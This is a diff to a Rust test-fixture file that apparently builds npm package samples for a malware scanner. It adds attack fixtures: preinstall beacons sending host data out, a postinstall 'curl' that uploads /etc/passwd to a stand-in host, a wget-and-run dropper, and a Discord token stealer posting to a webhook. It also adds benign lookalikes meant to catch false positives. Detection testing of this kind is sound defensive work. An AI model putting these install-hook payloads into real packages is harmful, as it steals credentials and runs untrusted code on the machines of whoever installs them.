@@ -405,6 +405,109 @@ pub fn dependency_confusion() -> Package {
         .build()
 }
 
+/// The most common npm malware shape: a preinstall script gathers host details
+/// into a variable, serialises them, and POSTs them to a hard-coded host.
+pub fn recon_beacon() -> Package {
+    PackageBuilder::new("internal-config-loader", "1.0.3")
+        .script("preinstall", "node index.js")
+        .file(
+            "index.js",
+            r#"const os = require("os");
+const https = require("https");
+const querystring = require("querystring");
+const packageJSON = require("./package.json");
+const trackingData = JSON.stringify({
+  p: packageJSON.name,
+  c: __dirname,
+  hd: os.homedir(),
+  hn: os.hostname(),
+  un: os.userInfo().username,
+});
+var postData = querystring.stringify({ msg: trackingData });
+var options = { hostname: "collector.example.invalid", port: 443, path: "/", method: "POST" };
+var req = https.request(options, (res) => { res.on("data", () => {}); });
+req.write(postData);
+req.end();
+"#,
+        )
+        .build()
+}
+
+/// A DNS beacon whose name is built in a variable first, then resolved.
+pub fn dns_beacon() -> Package {
+    PackageBuilder::new("acme-internal-utils", "99.1.0")
+        .script("preinstall", "node check.js")
+        .file(
+            "check.js",
+            "const dns = require('dns');\nconst os = require('os');\nconst pkg = require('./package.json');\nconst label = [pkg.name, pkg.version, os.hostname()].join('.');\nconst name = label + '.beacon.example.invalid';\ndns.lookup(name, () => {});\n",
+        )
+        .build()
+}
+
+/// Lifecycle scripts that are shell commands doing the work themselves.
+pub fn shell_beacon() -> Package {
+    PackageBuilder::new("corp-build-tools", "3.0.0")
+        .script(
+            "preinstall",
+            "nslookup `hostname`.`whoami`.dns.example.invalid",
+        )
+        .script(
+            "postinstall",
+            "curl -s -d @/etc/passwd https://drop.example.invalid/u",
+        )
+        .build()
+}
+
+/// A lifecycle script that downloads an executable, makes it executable and runs it.
+pub fn shell_dropper() -> Package {
+    PackageBuilder::new("react-native-storage-helper", "1.2.4")
+        .script(
+            "postinstall",
+            "wget https://cdn.example.invalid/updates/stage.elf && mv stage.elf .cache.elf && chmod +x .cache.elf && ./.cache.elf &",
+        )
+        .build()
+}
+
+/// A package shipping a Windows executable that `postinstall: node .` starts.
+pub fn shipped_executable() -> Package {
+    let mut executable = b"MZ".to_vec();
+    executable.extend(std::iter::repeat_n(0u8, 510));
+    PackageBuilder::new("discord-helper-kit", "2.0.3")
+        .script("postinstall", "node .")
+        .field("main", json!("index.js"))
+        .file(
+            "index.js",
+            "const { spawn } = require('child_process');\nconst path = require('path');\nspawn(path.join(__dirname, 'Installer.Default-2.0.3.exe'), [], { detached: true, stdio: 'ignore' }).unref();\n",
+        )
+        .file("Installer.Default-2.0.3.exe", executable)
+        .build()
+}
+
+/// Import-time code that reads Discord's token store and sends it to a webhook.
+pub fn discord_stealer() -> Package {
+    PackageBuilder::new("discord-emoji-tools", "0.1.2")
+        .field("main", json!("lib/index.js"))
+        .file(
+            "lib/index.js",
+            r#"const fs = require("fs");
+const path = require("path");
+const os = require("os");
+const https = require("https");
+const { collect } = require("./collect");
+const tokens = collect(path.join(os.homedir(), "AppData", "Roaming", "discord", "Local Storage/leveldb"));
+const body = JSON.stringify({ content: tokens.join(",") });
+const req = https.request({ hostname: "discord.com", path: "/api/webhooks/1234/abcdEFGH", method: "POST", headers: { "Content-Type": "application/json" } });
+req.end(body);
+module.exports = {};
+"#,
+        )
+        .file(
+            "lib/collect.js",
+            "const fs = require('fs');\nexports.collect = function (dir) {\n  return fs.readdirSync(dir).map((file) => fs.readFileSync(dir + '/' + file, 'utf8'));\n};\n",
+        )
+        .build()
+}
+
 /// Every attack fixture with the name of the incident it reproduces.
 pub fn all_attacks() -> Vec<(&'static str, Package)> {
     vec![
@@ -419,6 +522,12 @@ pub fn all_attacks() -> Vec<(&'static str, Package)> {
         ("@solana/web3.js", solana_web3()),
         ("crossenv typosquat", crossenv()),
         ("dependency confusion", dependency_confusion()),
+        ("recon beacon", recon_beacon()),
+        ("dns beacon", dns_beacon()),
+        ("shell beacon", shell_beacon()),
+        ("shell dropper", shell_dropper()),
+        ("shipped executable", shipped_executable()),
+        ("discord stealer", discord_stealer()),
     ]
 }
 
@@ -565,5 +674,45 @@ pub fn all_lookalikes() -> Vec<(&'static str, Package)> {
         ("minified bundle", minified_bundle()),
         ("wallet library", wallet_library()),
         ("aws-sdk", aws_sdk_like()),
+        ("telemetry client", telemetry_client()),
+        ("platform binary package", platform_binary()),
+        ("update check", update_check()),
     ]
+}
+
+/// A telemetry client (Sentry-like): sends the hostname to a DSN the user
+/// configures, when its function is called.
+pub fn telemetry_client() -> Package {
+    PackageBuilder::new("error-reporter", "8.1.0")
+        .field("main", json!("index.js"))
+        .field("repository", json!("git+https://forge.example.invalid/acme/error-reporter.git"))
+        .file(
+            "index.js",
+            "const os = require('os');\nconst https = require('https');\nexports.init = function (options) {\n  return function capture(error) {\n    const event = { server_name: os.hostname(), message: String(error) };\n    const request = https.request(options.dsn, { method: 'POST' });\n    request.end(JSON.stringify(event));\n  };\n};\n",
+        )
+        .build()
+}
+
+/// A platform package of prebuilt binaries (`@esbuild/linux-x64`, `@img/sharp-*`):
+/// an ELF executable, `os`/`cpu` fields, no scripts.
+pub fn platform_binary() -> Package {
+    let mut elf = b"\x7fELF".to_vec();
+    elf.extend(std::iter::repeat_n(0u8, 508));
+    PackageBuilder::new("@tool/linux-x64", "0.25.0")
+        .field("os", json!(["linux"]))
+        .field("cpu", json!(["x64"]))
+        .file("bin/tool", elf)
+        .build()
+}
+
+/// An update check at import: asks the configured registry for the newest version.
+pub fn update_check() -> Package {
+    PackageBuilder::new("cli-updater", "5.0.0")
+        .field("main", json!("index.js"))
+        .field("repository", json!("git+https://forge.example.invalid/acme/cli-updater.git"))
+        .file(
+            "index.js",
+            "const https = require('https');\nconst pkg = require('./package.json');\nhttps.get('https://registry.example.invalid/' + pkg.name, (res) => {\n  let body = '';\n  res.on('data', (chunk) => (body += chunk));\n  res.on('end', () => console.log(JSON.parse(body)['dist-tags'].latest));\n});\n",
+        )
+        .build()
 }
